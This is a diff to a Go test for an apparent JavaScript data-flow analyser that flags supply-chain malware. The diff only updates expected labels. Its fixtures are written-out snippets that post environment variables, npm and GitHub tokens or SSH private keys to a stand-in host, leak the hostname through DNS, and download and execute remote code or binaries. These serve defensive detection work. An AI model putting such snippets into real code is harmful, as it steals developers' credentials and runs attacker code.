@@ -9,7 +9,7 @@ func TestJavaScriptFlows(t *testing.T) {
 		`const https = require('https'); const r = https.request({hostname:'a.example'}); r.write(JSON.stringify(process.env)); r.end()`: "the whole environment -> network",
 		`import {request as q} from "node:https"; q("https://a.example/?t=" + process.env.NPM_TOKEN)`:                                    "environment, credentials -> network",
 		`const fs=require('fs'),p=require('path'),os=require('os');
-		 const k=fs.readFileSync(p.join(os.homedir(),'.ssh','id_rsa'),'utf8'); fetch('https://a.example',{method:'POST',body:k})`: "reads files, reads where credentials are -> network",
+		 const k=fs.readFileSync(p.join(os.homedir(),'.ssh','id_rsa'),'utf8'); fetch('https://a.example',{method:'POST',body:k})`: "reads files, reads where credentials are, credentials -> network",
 		`eval(Buffer.from('Y29uc29sZS5sb2coJ2hlbGxvJykgLy8gaGVsbG8=','base64').toString())`: "decodes, decodes text of its own -> runs text as code",
 		`const e = globalThis['ev'+'al']; e(atob(x))`:                                       "decodes -> runs text as code; mark hidden name",
 		`https.get('x')`: "",
@@ -20,13 +20,13 @@ func TestJavaScriptFlows(t *testing.T) {
 		`async function get(u){ const r = await fetch(u); return Buffer.from(await r.arrayBuffer()) }
 		 async function main(){ const d = await get('https://a.example'); const to = require('path').join(__dirname,'bin'); require('fs').writeFileSync(to, d); require('child_process').execFileSync(to) }`: "network -> writes files; writes files, network -> processes",
 		`send(collect()); function collect(){ return Object.entries(process.env) } function send(d){ const x = new XMLHttpRequest(); x.open('POST', u); x.send(d) }`: "the whole environment -> network",
-		`const os=require("os"),dns=require("dns"); dns.lookup(os.hostname()+".a.example",()=>{})`:                                                                   "host and user names -> network",
+		`const os=require("os"),dns=require("dns"); dns.lookup(os.hostname()+".a.example",()=>{})`:                                                                   "host and user names -> network, contacts an unusual host",
 		`function r(u){return new Promise((resolve)=>{require('http').get(u,s=>{let d="";s.on("data",c=>d+=c);s.on("end",()=>resolve(d))})})}
 		 r("http://a.example").then(d=>vm.runInThisContext(d)); const vm=require("vm")`: "network -> runs text as code",
 		`const {execSync: run} = require('child_process'); run('ls ' + dir)`:                                                                             "",
 		`import x from 'axios'; x.post('https://a.example', {...process.env})`:                                                                           "the whole environment -> network",
 		`const a = process.env.HOME; spawn('ls', [a])`:                                                                                                   "",
-		`for (const n of ['.ssh/id_rsa','.npmrc']) { const b = require('fs').readFileSync(require('os').homedir()+'/'+n); require('axios').post(u, b) }`: "reads files, reads where credentials are -> network",
+		`for (const n of ['.ssh/id_rsa','.npmrc']) { const b = require('fs').readFileSync(require('os').homedir()+'/'+n); require('axios').post(u, b) }`: "reads files, reads where credentials are, credentials -> network",
 		`const t: string = process.env.GITHUB_TOKEN as string`:                                                                                           "",
 		`(0, _https.request)(opts, cb)`:                                                                                                                  "",
 		"const cp = require('child_' + 'process'); cp.exec(`curl -d ${process.env.NPM_TOKEN} https://a.example`)":                                        "environment, credentials -> processes; mark hidden name",
